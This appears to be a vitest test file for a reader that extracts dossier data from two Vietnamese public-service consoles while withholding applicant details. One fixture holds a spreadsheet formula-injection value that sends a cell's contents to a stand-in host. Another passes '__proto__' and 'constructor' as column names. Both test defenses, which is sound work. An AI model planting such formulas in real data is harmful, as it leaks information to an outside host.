import { afterEach, describe, expect, test } from 'vitest'
import { createPageReader } from '@/utils/consoles/read-page'
import {
  element,
  opencpsColumns,
  opencpsDossier,
  opencpsTable,
  profileOf,
  showPage,
  tanDanTable,
} from './page-parts'

const at = (iso: string) => Date.parse(`${iso}+07:00`)
const opencps = profileOf('opencps')
const tanDan = profileOf('tan-dan')
const home = location.href

const readOpencps = () => createPageReader(opencps).read(document)
const readTanDan = () => createPageReader(tanDan).read(document)
const sightings = (reading: ReturnType<typeof readOpencps>) => reading.rows.map(({ sighting }) => sighting)

afterEach(() => {
  showPage()
  history.replaceState(null, '', home)
})

describe('OpenCPS list', () => {
  test('is read column by column, by the allow-list and no further', () => {
    showPage(opencpsTable(opencpsColumns, [opencpsDossier(9)]))
    const reading = readOpencps()
    expect(reading.proof).toMatchObject({ ok: true, reason: null, doubts: [] })
    expect(reading.page).toBe('danh-sach-ho-so')
    expect(reading.account).toBe('Cao Thị Thùy Dương')
    expect(sightings(reading)).toEqual([
      {
        number: 'H00.99.261118.0009',
        status: 'processing',
        statusLabel: 'Đang xử lý',
        step: 'Thẩm định hồ sơ',
        holder: 'Thạch Cẩm Tú',
        unit: 'Phòng Tư pháp - Hộ tịch',
        procedure: 'Cấp bản sao trích lục hộ tịch',
        receivedAt: { at: at('2026-11-18T08:00'), precision: 'second' },
        dueAt: { at: at('2026-11-20T17:00'), precision: 'second' },
      },
    ])
  })

  test('reads the same in NFC and NFD', () => {
    const nfd = Object.fromEntries(Object.entries(opencpsDossier(9)).map(([k, v]) => [k, v.normalize('NFD')]))
    showPage(opencpsTable(opencpsColumns, [opencpsDossier(9)]))
    const composed = sightings(readOpencps())
    showPage(opencpsTable(opencpsColumns, [nfd]))
    expect(sightings(readOpencps())).toEqual(composed)
  })

  test('in a result, neither step nor holder is taken, since they name who fetched it', () => {
    const fetched = {
      'Trạng thái': 'Đã trả kết quả',
      'Bước xử lý': 'Trả cho dân',
      'Người xử lý': 'Lý Văn Ngược',
    }
    showPage(opencpsTable(opencpsColumns, [opencpsDossier(1, fetched)]))
    const [sighting] = sightings(readOpencps())
    expect(sighting).toMatchObject({ status: 'returned' })
    expect(sighting).not.toHaveProperty('step')
    expect(sighting).not.toHaveProperty('holder')
  })

  test('a column that once names the applicant of its row is believed in no row', () => {
    const rows = [opencpsDossier(1), opencpsDossier(2, { 'Người xử lý': 'Phạm Quốc Giả Định' })]
    showPage(opencpsTable(opencpsColumns, rows))
    const reading = readOpencps()
    expect(reading.proof.doubts).toEqual([{ kind: 'namesApplicant', field: 'holder' }])
    expect(sightings(reading).every((sighting) => sighting.holder === undefined)).toBe(true)
    expect(sightings(reading)[0]?.step).toBe('Thẩm định hồ sơ')
  })

  test('a remark behind the status is not part of it, whatever it holds', () => {
    const note = 'Yêu cầu bổ sung giấy tờ (=HYPERLINK("http://example.invalid/?"&A1) Phạm Quốc)'
    showPage(opencpsTable(opencpsColumns, [opencpsDossier(1, { 'Trạng thái': note })]))
    expect(sightings(readOpencps())[0]).toMatchObject({
      status: 'awaitingApplicant',
      statusLabel: 'Yêu cầu bổ sung giấy tờ',
    })
  })

  test('a label that no vocabulary has is unknown, and not stored', () => {
    showPage(
      opencpsTable(opencpsColumns, [opencpsDossier(1, { 'Trạng thái': 'Phạm Quốc Giả Định đang chờ' })]),
    )
    expect(JSON.stringify(sightings(readOpencps()))).not.toContain('đang chờ')
    expect(readOpencps().rows[0]).toMatchObject({ status: 'unknown', saysStatus: true })
  })

  test('words that are properties of every object mean nothing', () => {
    showPage(
      opencpsTable(
        [...opencpsColumns, 'constructor', '__proto__'],
        [opencpsDossier(1, { 'Trạng thái': 'constructor' })],
      ),
    )
    expect(sightings(readOpencps())[0]).toMatchObject({ status: 'unknown' })
  })

  test('rows that are still loading are not read', () => {
    const page = opencpsTable(opencpsColumns, [opencpsDossier(1), opencpsDossier(2)])
    page.querySelector('tbody td')?.append(element('<div class="vue-content-placeholders"></div>'))
    showPage(page)
    expect(sightings(readOpencps()).map(({ number }) => number)).toEqual(['H00.99.261118.0002'])
  })

  test('the row that says there is nothing is no dossier', () => {
    const page = opencpsTable(opencpsColumns, [])
    page
      .querySelector('tbody')
      ?.append(
        element('<table><tr><td colspan="12">Không có hồ sơ</td></tr></table>').querySelector('tr') ?? '',
      )
    showPage(page)
    expect(readOpencps()).toMatchObject({ proof: { ok: true }, rows: [] })
  })

  test('a dossier without a number yet is shown, not refused', () => {
    const fresh = { 'Mã hồ sơ': '', 'Trạng thái': 'Mới đăng ký', 'Ngày hẹn trả': '' }
    showPage(opencpsTable(opencpsColumns, [opencpsDossier(1, fresh), opencpsDossier(2, fresh)]))
    expect(sightings(readOpencps())).toMatchObject([{ number: null, status: 'submitted' }, { number: null }])
  })

  test('the applicant is given live, and only on asking', () => {
    showPage(
      opencpsTable(opencpsColumns, [opencpsDossier(1), opencpsDossier(2, { 'Chủ hồ sơ': 'LÊ THỊ VÍ DỤ' })]),
    )
    const reader = createPageReader(opencps)
    expect(JSON.stringify(reader.read(document).rows)).not.toContain('VÍ DỤ')
    expect(reader.applicant({ number: 'H00.99.261118.0002' })).toEqual({ name: 'LÊ THỊ VÍ DỤ' })
    expect(reader.applicant({ number: 'H00.99.261118.0003' })).toBeNull()
  })
})

describe('OpenCPS below 1264 px', () => {
  const narrow = (...dossiers: string[][]) => {
    const numbers = dossiers.map((_, index) => ({ STT: String(index + 1) }))
    const page = opencpsTable(['STT', 'Tên thủ tục', ''], numbers)
    for (const [index, lines] of dossiers.entries()) {
      const cell = page.querySelectorAll('td')[3 * index + 1]
      cell?.append(
        ...lines.map((line) => Object.assign(document.createElement('div'), { textContent: line })),
      )
    }
    return page
  }
  const lines = (due: string, counting: string) => [
    'H00.99.261118.0009 - Hồ sơ trực tuyến',
    'Cấp bản sao trích lục hộ tịch',
    'Chủ hồ sơ: PHẠM QUỐC GIẢ ĐỊNH',
    'Tiếp nhận: 18/11/2026 08:00:00',
    `Hẹn trả: ${due}`,
    counting,
  ]

  test('is read from the one cell; the channel written there is not believed', () => {
    showPage(narrow(lines('20/11/2026 17:00:00', 'Quá 1.25 ngày')))
    expect(sightings(readOpencps())).toEqual([
      {
        number: 'H00.99.261118.0009',
        status: 'notShown',
        procedure: 'Cấp bản sao trích lục hộ tịch',
        receivedAt: { at: at('2026-11-18T08:00'), precision: 'second' },
        dueAt: { at: at('2026-11-20T17:00'), precision: 'second' },
      },
    ])
  })

  test.each([
    ['Quá 1.25 ngày', 'unknown'],
    ['Còn 3.5 ngày', 'unknown'],
    ['Tạm dừng xử lý', 'paused'],
    ['Quá hạn', 'returned'],
    ['Đúng hạn', 'returned'],
  ])('the console counting "%s" stands for the status it does not show: %s', (counting, status) => {
    showPage(narrow(lines('20/11/2026 17:00:00', counting)))
    expect(readOpencps().rows[0]).toMatchObject({ status, saysStatus: false })
  })

  test('the status seen before in the wide list goes on, unless the console counts otherwise', () => {
    const reader = createPageReader(opencps)
    showPage(opencpsTable(opencpsColumns, [opencpsDossier(9, { 'Trạng thái': 'Chờ bổ sung' })]))
    reader.read(document)
    showPage(narrow(lines('20/11/2026 17:00:00', 'Tạm dừng xử lý')))
    expect(reader.read(document).rows[0]?.status).toBe('awaitingApplicant')
    showPage(narrow(lines('20/11/2026 17:00:00', 'Còn 2.0 ngày')))
    expect(reader.read(document).rows[0]?.status).toBe('unknown')
  })

  const notReceived = ['- Hồ sơ một cửa', 'Cấp bản sao trích lục hộ tịch', 'Tiếp nhận:', 'Hẹn trả:']

  test('dossiers not yet received, of which no number, date or status is written, count neither for nor against', () => {
    showPage(narrow(lines('20/11/2026 17:00:00', 'Còn 2.0 ngày'), notReceived, notReceived, notReceived))
    const { proof, rows } = readOpencps()
    expect(proof).toMatchObject({ ok: true, doubts: [] })
    expect(rows.map(({ sighting }) => sighting.number)).toEqual(['H00.99.261118.0009', null, null, null])
  })

  test('but a list of nothing else proves nothing, and rows without even the labels are unread', () => {
    showPage(narrow(notReceived, notReceived))
    expect(readOpencps().proof.reason).toBe('rows')
    const unread = ['Cấp bản sao trích lục hộ tịch', 'Một dòng khác']
    showPage(narrow(lines('20/11/2026 17:00:00', 'Còn 2.0 ngày'), unread))
    expect(readOpencps().proof.reason).toBe('rows')
  })

  test('an applicant called like a label changes nothing', () => {
    const imitated = lines('20/11/2026 17:00:00', 'Còn 2.0 ngày')
    imitated[2] = 'Chủ hồ sơ: Hẹn trả: 01/01/2020 08:00, Mã hồ sơ H00.99.200101.9999'
    showPage(narrow(imitated))
    expect(sightings(readOpencps())[0]).toMatchObject({
      number: 'H00.99.261118.0009',
      dueAt: { at: at('2026-11-20T17:00') },
    })
  })
})

describe('Tân Dân list', () => {
  const row = (lines: string[], change = {}) => ({
    key: '41057',
    code: 'H00.77.01-261104-0003',
    step: 'Phân công thụ lý',
    applicant: 'Đỗ Quốc Diệu Huyền',
    lines,
    ...change,
  })
  const subject = '- Khai sinh cho cháu ngoại của Đỗ Quốc Diệu Huyền'
  const status = '- Trạng thái hồ sơ : Thụ lý hồ sơ - Nộp qua Cổng DVC'
  const dates = '- Tiếp nhận trực tuyến: 04/11/2026 10:26, hẹn trả: 23/11/2026 17:00'

  test('everything comes out of the composite cell but the subject', () => {
    showPage(tanDanTable([row([subject, status, dates])]))
    expect(sightings(readTanDan())).toEqual([
      {
        number: 'H00.77.01-261104-0003',
        rowId: '41057',
        status: 'processing',
        statusLabel: 'Thụ lý hồ sơ',
        step: 'Phân công thụ lý',
        channel: 'online',
        receivedAt: { at: at('2026-11-04T10:26'), precision: 'minute' },
        dueAt: { at: at('2026-11-23T17:00'), precision: 'minute' },
      },
    ])
  })

  test.each([
    [
      'without a colon',
      '- Tiếp nhận trực tiếp: 04/11/2026 10:26, hẹn trả 23/11/2026 17:00',
      'counter',
      true,
      true,
    ],
    [
      'without a due date',
      '- Tiếp nhận qua bưu chính công ích: 04/11/2026 10:26, hẹn trả:',
      'post',
      true,
      false,
    ],
    ['without a receipt', '- Tiếp nhận trực tuyến:, hẹn trả: 23/11/2026 17:00', 'online', false, true],
    ['in NFD', dates.normalize('NFD'), 'online', true, true],
  ])('dates %s', (_how, line, channel, received, due) => {
    showPage(tanDanTable([row([subject, status, line])]))
    const [sighting] = sightings(readTanDan())
    expect(sighting?.channel).toBe(channel)
    expect(sighting?.receivedAt?.at).toBe(received ? at('2026-11-04T10:26') : undefined)
    expect(sighting?.dueAt?.at).toBe(due ? at('2026-11-23T17:00') : undefined)
  })

  test('two dates behind one label are no date', () => {
    showPage(tanDanTable([row([subject, status, `${dates} (hẹn lại từ 20/11/2026 17:00)`])]))
    expect(readTanDan().proof.ok).toBe(false)
  })

  test('a subject that imitates the console is the citizen speaking', () => {
    const fake = '- Trạng thái hồ sơ : Đã trả kết quả'
    showPage(tanDanTable([row([fake, dates])]))
    expect(readTanDan().rows[0]).toMatchObject({ saysStatus: false })
    showPage(
      tanDanTable([
        row(['- Tiếp nhận trực tuyến: 01/01/2020 08:00, hẹn trả: 01/01/2030 08:00', status, dates]),
      ]),
    )
    expect(sightings(readTanDan())[0]?.dueAt?.at).toBe(at('2026-11-23T17:00'))
  })

  test('a list that stands for a status gives it to rows that say none', () => {
    history.replaceState(null, '', '/dvc/xu-ly-ho-so/dang-xu-ly?trang=2')
    showPage(tanDanTable([row([subject, dates])]))
    const reading = readTanDan()
    expect(reading.page).toBe('dang-xu-ly')
    expect(reading.rows[0]).toMatchObject({ status: 'processing', saysStatus: true })
  })

  test('the step that names the applicant is left out', () => {
    showPage(tanDanTable([row([subject, status, dates], { step: 'Chờ ĐỖ QUỐC DIỆU HUYỀN bổ sung' })]))
    expect(sightings(readTanDan())[0]).not.toHaveProperty('step')
  })
})

describe('a detail view', () => {
  test('OpenCPS: pairs of labels and values', () => {
    history.replaceState(null, '', '#/danh-sach-ho-so/1/chi-tiet-ho-so/41057?q=x')
    const pair = (label: string, value: string) =>
      `<div class="pb-1"><span class="pr-2">${label}:</span><span class="pl-0 text-bold">${value}</span></div>`
    showPage(
      element(`<div class="form-chitiet">
        ${pair('Chủ hồ sơ', 'Phạm Quốc Giả Định')}${pair('Địa chỉ', 'Số 9, ấp Mẫu')}
        ${pair('Người nộp hồ sơ', 'Lê Thị Nộp Hộ')}${pair('Người xử lý', 'Lê Thị Nộp Hộ')}
        ${pair('Ngày tiếp nhận', '18/11/2026 08:00:00')}${pair('Thời hạn giải quyết', '8 giờ làm việc')}
        ${pair('Ngày hẹn trả', '19/11/2026 08:00:00')}${pair('Mã hồ sơ', 'H00.99.261118.0009')}
        ${pair('Trạng thái', 'Đang xử lý')}${pair('Ghi chú', 'Giả Định gọi 0900000108')}</div>`),
    )
    const reader = createPageReader(opencps)
    const reading = reader.read(document)
    expect(reading.page).toBe('chi-tiet-ho-so')
    expect(reading.detail?.sighting).toEqual({
      number: 'H00.99.261118.0009',
      rowId: '41057',
      status: 'processing',
      statusLabel: 'Đang xử lý',
      receivedAt: { at: at('2026-11-18T08:00'), precision: 'second' },
      dueAt: { at: at('2026-11-19T08:00'), precision: 'second' },
      term: { unit: 'workingHour', count: 8 },
    })
    expect(reader.applicant({ number: 'H00.99.261118.0009' })).toEqual({
      name: 'Phạm Quốc Giả Định',
      address: 'Số 9, ấp Mẫu',
      submitter: 'Lê Thị Nộp Hộ',
    })
  })

  const modal = (due: string, style = '') =>
    element(`<div class="ant-modal-wrap" style="${style}"><div class="ant-modal-content">
      <div class="ant-modal-title">Thông tin chi tiết hồ sơ H00.77.01-261104-0003</div><div class="fields">
      <label><span>Ngày hẹn trả</span><input disabled value="${due}"></label>
      <label><span>Kênh thực hiện</span><input disabled value="Trực tuyến"></label>
      <label><span>Thời hạn giải quyết</span><input disabled value="20 ngày làm việc"></label>
      <label><span>Nội dung hồ sơ</span><input disabled value="Khai sinh cho cháu"></label></div></div></div>`)

  test('Tân Dân: disabled inputs in a modal, with the status of the row beneath', () => {
    const list = tanDanTable([
      {
        key: '41057',
        code: 'H00.77.01-261104-0003',
        step: 'Chuyên viên thụ lý',
        applicant: 'Đỗ Quốc',
        lines: [
          '- x',
          '- Trạng thái hồ sơ : Chờ ký',
          '- Tiếp nhận trực tuyến: 04/11/2026 10:26, hẹn trả: 23/11/2026 17:00',
        ],
      },
    ])
    showPage(list, modal('24/11/2026 17:00'))
    expect(readTanDan().detail).toMatchObject({
      status: 'awaitingSignature',
      sighting: {
        number: 'H00.77.01-261104-0003',
        rowId: '41057',
        step: 'Chuyên viên thụ lý',
        channel: 'online',
        dueAt: { at: at('2026-11-24T17:00') },
        term: { unit: 'workingDay', count: 20 },
      },
    })
  })

  test('a modal that is closed but still in the page is not there', () => {
    showPage(tanDanTable([]), modal('24/11/2026 17:00', 'display: none;'))
    expect(readTanDan().detail).toBeNull()
  })
})

describe('a page that proves nothing shows nothing but the reason', () => {
  test.each([
    [
      'another site',
      () => showPage(element('<table><tr><td>H00.99.261118.0009</td></tr></table>')),
      'notThisConsole',
    ],
    ['no list', () => showPage(element('<div class="onegate__fe"></div>')), 'noList'],
    [
      'no column of numbers',
      () => showPage(opencpsTable(['STT', 'Ngày hẹn trả'], [opencpsDossier(1)])),
      'headings',
    ],
    [
      'numbers that are none',
      () =>
        showPage(
          opencpsTable(
            opencpsColumns,
            [1, 2, 3].map((n) => opencpsDossier(n, { 'Mã hồ sơ': `Số ${n}` })),
          ),
        ),
      'rows',
    ],
    [
      'dates that are none',
      () =>
        showPage(
          opencpsTable(
            opencpsColumns,
            [1, 2].map((n) => opencpsDossier(n, { 'Ngày hẹn trả': '31/02/2026' })),
          ),
        ),
      'rows',
    ],
    [
      'months before days',
      () =>
        showPage(
          opencpsTable(
            opencpsColumns,
            [1, 2, 3, 4, 5, 6].map((n) =>
              opencpsDossier(n, {
                'Ngày tiếp nhận': '11/05/2026',
                'Ngày hẹn trả': n === 1 ? '11/25/2026' : '11/06/2026',
              }),
            ),
          ),
        ),
      'monthFirst',
    ],
    [
      'one number twice',
      () => showPage(opencpsTable(opencpsColumns, [opencpsDossier(1), opencpsDossier(1)])),
      'repeated',
    ],
  ])('%s', (_what, show, reason) => {
    show()
    expect(readOpencps()).toMatchObject({ proof: { ok: false, reason }, rows: [], detail: null })
  })

  test.each([
    ['that say the same is read in both', {}, null],
    ['with two due dates silences the list', { 'Ngày hẹn trả': '27/11/2026 17:00:00' }, 'repeated'],
    ['with two statuses silences the list', { 'Trạng thái': 'Chờ ký' }, 'repeated'],
  ])('one dossier among others in two rows %s', (_what, change, reason) => {
    const rows = [1, 2, 3, 4].map((n) => opencpsDossier(n))
    showPage(opencpsTable(opencpsColumns, [...rows, opencpsDossier(2, { STT: '5', ...change })]))
    const reading = readOpencps()
    expect(reading.proof.reason).toBe(reason)
    expect(reading.rows).toHaveLength(reason === null ? 5 : 0)
  })

  test('one broken row among many does not silence the list', () => {
    const rows = [1, 2, 3, 4, 5, 6].map((n) =>
      opencpsDossier(n, n === 3 ? { 'Ngày hẹn trả': '31/02/2026' } : {}),
    )
    showPage(opencpsTable(opencpsColumns, rows))
    const reading = readOpencps()
    expect(reading.proof).toMatchObject({ ok: true, doubts: [{ kind: 'rowsUnread', count: 1 }] })
    expect(reading.rows[2]?.sighting.dueAt).toBeUndefined()
  })
})
